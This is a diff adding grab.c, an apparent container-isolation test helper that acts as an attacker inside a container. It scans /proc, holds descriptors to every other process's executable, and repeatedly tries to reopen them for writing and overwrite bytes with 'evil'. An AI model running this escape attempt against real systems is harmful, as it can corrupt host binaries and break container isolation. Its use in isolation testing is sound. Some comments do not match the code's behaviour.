@@ -1,0 +1,89 @@
+/* SPDX-License-Identifier: LGPL-2.1-or-later */
+/*
+ * grab.c - an attacker inside of a container: opens the program of every process that it sees, and writes to it.
+ *
+ *     grab FILE
+ *
+ * FILE gets a line "PID PATH" for every program that is not its own, with " opened" or " written" behind it; it is
+ * made when the attack begins.
+ */
+#include <dirent.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <signal.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <unistd.h>
+
+enum { HELD_MAX = 512 };
+
+static int held[HELD_MAX];         /* O_PATH descriptors of programs, to be opened again until that succeeds */
+static unsigned n_held;
+
+static void end(int signal)
+{
+    (void) signal;
+    _exit(0);
+}
+
+/* True if it can be opened for writing: then one byte of it is overwritten by itself, and the next by another. */
+static int overwrite(int fd)
+{
+    char path[64];
+    int writable;
+
+    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
+    writable = open(path, O_WRONLY | O_CLOEXEC);
+    if (writable < 0)
+        return 0;
+    (void) !pwrite(writable, "evil", 4, 64);
+    close(writable);
+    return 1;
+}
+
+static void try_one(FILE *out, const char *pid, const char *own)
+{
+    char path[300], target[4096];
+    ssize_t n;
+    int fd;
+
+    snprintf(path, sizeof path, "/proc/%s/exe", pid);
+    n = readlink(path, target, sizeof target - 1);
+    if (n < 0)
+        return;
+    target[n] = '\0';
+    if (strcmp(target, own) == 0 || strcmp(target, "/probe") == 0)
+        return;
+    fd = open(path, O_PATH | O_CLOEXEC);
+    if (fd >= 0 && n_held < HELD_MAX)
+        held[n_held++] = fd;
+    else if (fd >= 0)
+        close(fd);
+    fprintf(out, "%s %s%s\n", pid, target, fd >= 0 ? " opened" : "");
+    fflush(out);
+}
+
+int main(int argc, char **argv)
+{
+    FILE *out = argc > 1 ? fopen(argv[1], "we") : NULL;
+
+    if (!out)
+        return 1;
+    signal(SIGTERM, end);
+    for (;;) {
+        DIR *dir = opendir("/proc");
+        struct dirent *entry;
+
+        while (dir && (entry = readdir(dir)))
+            if (entry->d_name[0] >= '1' && entry->d_name[0] <= '9')
+                try_one(out, entry->d_name, argv[0]);
+        if (dir)
+            closedir(dir);
+        for (unsigned i = 0; i < n_held; i++)
+            if (overwrite(held[i])) {
+                fprintf(out, "0 held written\n");
+                fflush(out);
+            }
+    }
+}
